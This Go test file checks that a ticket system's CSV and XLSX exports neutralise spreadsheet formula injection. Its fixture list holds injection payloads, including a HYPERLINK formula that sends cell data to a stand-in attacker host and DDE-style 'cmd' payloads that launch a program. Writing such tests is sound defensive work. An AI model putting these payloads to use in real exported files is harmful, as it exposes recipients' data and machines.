package transfer

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// formulas start with each character a spreadsheet reads as the start of a
// formula (or that Excel strips before reading one).
var formulas = []string{`=HYPERLINK("http://evil.example/?x="&A1,"点我")`, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)"}

func TestCSVCell(t *testing.T) {
	for _, f := range formulas {
		if got := CSVCell(f); got != "'"+f {
			t.Errorf("CSVCell(%q) = %q, want it prefixed with '", f, got)
		}
	}
	for _, s := range []string{"", "井盖丢了", "20260302000001", "a=b", "1+1", "'=1", "邮箱 a@b.cn"} {
		if got := CSVCell(s); got != s {
			t.Errorf("CSVCell(%q) = %q, want it unchanged", s, got)
		}
	}
}

// readCSV returns the records of a CSV file after its byte order mark.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, b)
	}
	return recs
}

// TestExportsNeutraliseFormulas: the staff export's CSV and the full
// export's CSV prefix every formula-like text cell; numbers stay numbers;
// the XLSX export keeps text as text.
func TestExportsNeutraliseFormulas(t *testing.T) {
	row := make([]string, len(ListHeader))
	var rows [][]string
	for _, f := range formulas {
		r := append([]string(nil), row...)
		r[0], r[5], r[6] = "20260302000001", f, f
		rows = append(rows, r)
	}
	l := &TicketList{Rows: rows, date: "20260302"}
	var buf bytes.Buffer
	if err := l.Write(&buf, ListCSV); err != nil {
		t.Fatal(err)
	}
	// encoding/csv drops a CR inside a field when it ends lines with CRLF.
	want := func(f string) string { return "'" + strings.ReplaceAll(f, "\r", "") }
	recs := readCSV(t, buf.Bytes())
	for i, f := range formulas {
		if got := recs[i+1][5]; got != want(f) || recs[i+1][6] != want(f) {
			t.Errorf("staff export CSV: %q written as %q", f, got)
		}
	}

	buf.Reset()
	if err := l.Write(&buf, ListXLSX); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for i, f := range formulas {
		cell, _ := excelize.CoordinatesToCellName(6, i+2)
		if fm, _ := x.GetCellFormula("工单", cell); fm != "" {
			t.Errorf("XLSX %s holds a formula %q", cell, fm)
		}
		typ, _ := x.GetCellType("工单", cell)
		v, _ := x.GetCellValue("工单", cell)
		if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("XLSX %s is of type %v, not text", cell, typ)
		}
		if v != strings.ReplaceAll(f, "\r", "\n") && v != f {
			t.Errorf("XLSX %s = %q, want %q", cell, v, f)
		}
	}

	var jl, cb bytes.Buffer
	w := newRowWriter(&jl, &cb, []string{"description", "n"}, []colKind{kText, kInt}, time.UTC)
	if err := w.header(); err != nil {
		t.Fatal(err)
	}
	for _, f := range formulas {
		if err := w.row([]any{f, int64(-2)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.flush(); err != nil {
		t.Fatal(err)
	}
	recs = readCSV(t, cb.Bytes())
	for i, f := range formulas {
		if recs[i+1][0] != want(f) || recs[i+1][1] != "-2" {
			t.Errorf("export CSV: %q, -2 written as %q", f, recs[i+1])
		}
	}
	if strings.Contains(jl.String(), `"'`) {
		t.Errorf("JSON Lines changed: %s", jl.String())
	}
}
